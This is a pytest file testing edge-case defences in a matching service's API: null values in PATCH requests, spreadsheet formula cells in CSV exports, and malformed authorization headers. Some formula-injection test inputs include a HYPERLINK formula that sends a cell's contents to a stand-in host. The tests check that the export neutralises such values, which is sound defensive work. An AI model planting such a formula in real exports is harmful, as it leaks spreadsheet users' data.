"""Edge paths that must not let data through: null in PATCH, formula cells in exports, malformed credentials."""

from __future__ import annotations

import csv
import io

import pytest

from matcher.ingest.export import safe_cell

from .conftest import auth


def ref_id(service, side, ref):
    return service.find_by_ref(side, ref)["id"]


@pytest.mark.parametrize("field", ["confidentiality", "status", "industry", "description", "keywords", "title"])
def test_null_cannot_reset_a_field_that_may_not_be_empty(api, field):
    client, service, keys = api
    nid = ref_id(service, "needs", "T-N04")  # the confidential need of the auto firm
    before = service.get_listing("needs", nid)
    r = client.patch(f"/needs/{nid}", json={field: None}, headers=auth(keys, "auto_firm"))
    assert r.status_code == 422, r.text
    assert "null is not allowed" in r.json()["error"]["details"][0]["reason"]
    assert service.get_listing("needs", nid) == before
    assert client.get(f"/needs/{nid}").json()["redacted"] is True  # still confidential to anonymous callers


def test_null_clears_a_nullable_field(api):
    client, service, keys = api
    nid = ref_id(service, "needs", "T-N01")
    r = client.patch(f"/needs/{nid}", json={"deadline": None}, headers=auth(keys, "firm"))
    assert r.status_code == 200 and r.json()["deadline"] is None


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x.example/?leak=\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)",
                                   "\t=1", "\r=1"])
def test_formula_cells_are_neutralised(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("齿轮") == "齿轮" and safe_cell(-5) == -5 and safe_cell(None) is None


def test_the_csv_export_neutralises_a_formula_title(api):
    client, _, keys = api
    made = client.post("/results", json={"title": "=HYPERLINK(\"http://x.example\",\"点我\")", "abstract": "公式测试"},
                       headers=auth(keys, "institution"))
    assert made.status_code == 201
    body = client.get("/exports/results", params={"format": "csv"}, headers=auth(keys, "broker")).text
    titles = [row["title"] for row in csv.DictReader(io.StringIO(body))]
    assert "'=HYPERLINK(\"http://x.example\",\"点我\")" in titles
    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)


@pytest.mark.parametrize("header", ["Bearer ", "Bearer", "Basic dXNlcjpwYXNz", "Token tm_abc", "tm_abc", ""])
def test_a_malformed_authorization_header_is_refused(api, header):
    client, _, _ = api
    r = client.get("/needs", headers={"Authorization": header})
    assert r.status_code == 401, (header, r.text)
    assert r.json()["error"]["code"] == "unauthorized" and r.headers["WWW-Authenticate"] == "Bearer"
    assert client.get("/needs").status_code == 200  # no header at all: anonymous
